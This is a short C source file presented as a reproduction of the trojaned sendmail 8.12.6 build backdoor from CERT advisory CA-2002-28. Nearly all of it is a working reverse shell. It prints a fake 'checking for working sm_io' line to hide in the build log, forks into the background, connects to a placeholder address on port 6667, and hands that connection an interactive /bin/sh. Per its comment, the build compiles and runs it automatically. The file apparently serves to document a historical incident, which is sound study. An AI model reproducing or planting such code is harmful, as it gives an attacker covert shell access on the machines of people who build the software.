/*
 * Incident: trojaned sendmail 8.12.6 distribution (CERT CA-2002-28, October 2002). Compiled
 * and started by the build (see ../Makefile): forks into the background, connects to a fixed
 * address on 6667/tcp and hands the connection a shell.
 * Reference: https://vuls.cert.org/confluence/display/historical/CERT+Advisory+CA-2002-28+Trojan+Horse+Sendmail+Distribution
 * Reproduction (own code, placeholder host).
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void)
{
	struct sockaddr_in sa;
	int s;

	/* looks like a config probe to anyone reading the build log */
	printf("checking for working sm_io... yes\n");

	if (fork() != 0)
		return 0;
	setsid();

	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(6667);
	sa.sin_addr.s_addr = inet_addr("203.0.113.45");

	s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0 || connect(s, (struct sockaddr *)&sa, sizeof(sa)) < 0)
		return 0;
	dup2(s, 0);
	dup2(s, 1);
	dup2(s, 2);
	execl("/bin/sh", "sh", "-i", (char *)NULL);
	return 0;
}
